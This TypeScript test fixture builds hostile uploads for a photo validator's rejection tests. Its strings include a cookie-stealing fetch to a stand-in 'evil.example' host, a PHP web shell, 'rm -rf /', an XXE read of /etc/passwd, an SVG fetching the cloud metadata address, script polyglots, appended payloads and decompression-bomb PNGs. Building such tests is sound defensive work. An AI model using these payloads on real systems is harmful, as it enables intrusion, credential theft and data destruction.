import { deflateSync } from 'node:zlib';
import { aPdf, aPicture } from '../sent-files.ts';

interface HostileFile {
  what: string;
  file: Buffer;
  /** The expected refusal as a photo. */
  code: string;
}

const crcTable = Array.from({ length: 256 }, (_, byte) => {
  let value = byte;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});

function crcOf(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function chunk(name: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), content]);
  const [length, crc] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  crc.writeUInt32BE(crcOf(named));
  return Buffer.concat([length, named, crc]);
}

/** Builds a PNG with a false size in its header, and next to no content. */
function aPngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = deflateSync(Buffer.alloc(1000));
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

const strangers: Record<string, string | Buffer> = {
  'an SVG with a script': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  'an SVG that fetches': '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>',
  'an HTML page': '<!doctype html><html><script>alert(document.cookie)</script></html>',
  'a script': 'fetch("//evil.example/" + document.cookie)',
  'a PHP page': '<?php system($_GET["c"]); ?>',
  'a shell script': '#!/bin/sh\nrm -rf /\n',
  'a program for Windows': Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
  'a program for Linux': Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'),
  'an archive': Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1'),
  'a GIF': Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'),
  'a GIF that is a script': 'GIF89a/*  */=alert(1)//',
  'a bitmap': Buffer.from('BM\x46\x00\x00\x00', 'latin1'),
  'a TIFF': Buffer.from('II*\x00\x08\x00\x00\x00', 'latin1'),
  'an icon': Buffer.from('\x00\x00\x01\x00\x01\x00', 'latin1'),
  'a film': Buffer.from('\x00\x00\x00\x18ftypmp42', 'latin1'),
  'a HEIC': Buffer.from('\x00\x00\x00\x18ftypheic', 'latin1'),
  'a PostScript': '%!PS-Adobe-3.0\n(%pipe%id) (w) file',
  'an ImageMagick script': 'push graphic-context\nviewbox 0 0 640 480\nfill "url(https://evil.example/x)"\n',
  'an XML with an entity': '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'nothing but zeroes': Buffer.alloc(5000),
  'one byte': Buffer.from([0xff]),
  'half a signature': Buffer.from([0x89, 0x50, 0x4e]),
  'a signature behind a page': '<html>\xff\xd8\xff',
  'text in UTF-16': Buffer.from('\ufeff<html>', 'utf16le'),
};

const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]);
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const WEBP = Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1');
const masks = { JPEG, PNG, WebP: WEBP };

const passengers: Record<string, string> = {
  'a page': '<html><body onload=alert(1)>',
  'a script element': '<script src=//evil.example></script>',
  'a PHP page': '<?php echo 1; ?>',
  'an SVG': '<svg xmlns="http://www.w3.org/2000/svg"/>',
  'a PDF': '%PDF-1.7 ',
  'an archive': 'PK\x03\x04 JAR PK\x05\x06\x00\x00',
};

/** Builds files that are no valid photo, each with the expected refusal. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const files: HostileFile[] = Object.entries(strangers).map(([what, content]) => ({
    what,
    file: typeof content === 'string' ? Buffer.from(content, 'latin1') : content,
    code: 'upload.not_what_it_says',
  }));
  files.push({ what: 'a PDF', file: aPdf(), code: 'upload.not_what_it_says' });
  for (const [kind, mask] of Object.entries(masks)) {
    const masked = Buffer.concat([mask, Buffer.from('nothing that any decoder knows'.repeat(30))]);
    files.push({ what: `noise that begins as a ${kind}`, file: masked, code: 'photo.unreadable' });
    files.push({ what: `only the signature of a ${kind}`, file: mask, code: 'photo.unreadable' });
  }
  for (const type of ['jpeg', 'png', 'webp'] as const) {
    const picture = await aPicture(type, 200, 200);
    for (const [what, passenger] of Object.entries(passengers)) {
      const carried = Buffer.from(passenger, 'latin1');
      files.push({
        what: `a ${type} with ${what} behind it`,
        file: Buffer.concat([picture, carried]),
        code: 'upload.not_what_it_says',
      });
    }
    const cut = picture.subarray(0, Math.floor(picture.length / 2));
    files.push({ what: `half a ${type}`, file: cut, code: 'photo.unreadable' });
  }
  for (const [width, height] of [
    [30_000, 30_000],
    [65_535, 65_535],
    [5001, 5000],
    [100_000, 251],
    [16_000_000, 2],
  ] as const) {
    files.push({ what: `a PNG of ${width} x ${height}`, file: aPngOf(width, height), code: 'photo.too_many_pixels' });
  }
  files.push({ what: 'a PNG of 0 x 0', file: aPngOf(0, 0), code: 'photo.unreadable' });
  files.push({ what: 'a PNG of 2 x 2 billion', file: aPngOf(2, 2_000_000_000), code: 'photo.unreadable' });
  return files;
}
